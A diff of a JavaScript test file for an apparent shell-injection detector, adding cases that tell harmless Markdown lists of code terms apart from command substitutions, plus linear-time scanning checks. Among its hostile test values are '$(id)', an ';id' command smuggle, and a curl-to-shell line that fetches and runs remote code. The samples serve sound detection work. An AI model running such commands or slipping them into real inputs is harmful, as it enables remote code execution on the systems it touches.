@@ -263,6 +263,32 @@ describe("shell family", () => {
     }
   })
 
+  it("reads a Markdown list of code terms as code: an item that names a term and describes it", () => {
+    for (const value of [
+      "- [`mysql`](https://www.npmjs.com/package/mysql) versions `>=2.0.0 <3`",
+      "* `id` - (String) UUID(-like) string",
+      "- `env`\n- `host`\n- `os`\n- `all` - enable all resource detectors above",
+      "1. `whoami` prints the user name",
+      "+ `uname`: the kernel's name"
+    ]) {
+      expect(score(value), value).toBeLessThan(5)
+    }
+  })
+
+  it("keeps a list item's backticks a substitution when nothing describes the term or it holds a command line", () => {
+    for (const value of [
+      "- `id`",
+      "- `id` x",
+      "* `whoami`\n",
+      "- `$(id)` now",
+      "1. `curl http://203.0.113.9/x|sh` then",
+      "- `a;id` - list",
+      "-`id` prints"
+    ]) {
+      expect(score(value), value).toBeGreaterThanOrEqual(5)
+    }
+  })
+
   it("keeps backticks a substitution where a shell would run them", () => {
     for (const value of [
       "`id`",
@@ -287,6 +313,12 @@ describe("shell family", () => {
 
   it("reads markdown code in time linear in the value's length", () => {
     const small = "Run `ls -la` in the folder. ".repeat(4_000) + "```sh\n".repeat(4_000) + "`".repeat(64_000)
+    const large = small + small
+    expect(cpuDoublingRatio((value) => family.scan(value, { location: "query", paranoia: 1 }), small, large)).toBeLessThanOrEqual(4)
+  })
+
+  it("reads Markdown list items in time linear in the value's length", () => {
+    const small = "- `a` b ".repeat(8_000) + "\n- `x`".repeat(8_000)
     const large = small + small
     expect(cpuDoublingRatio((value) => family.scan(value, { location: "query", paranoia: 1 }), small, large)).toBeLessThanOrEqual(4)
   })
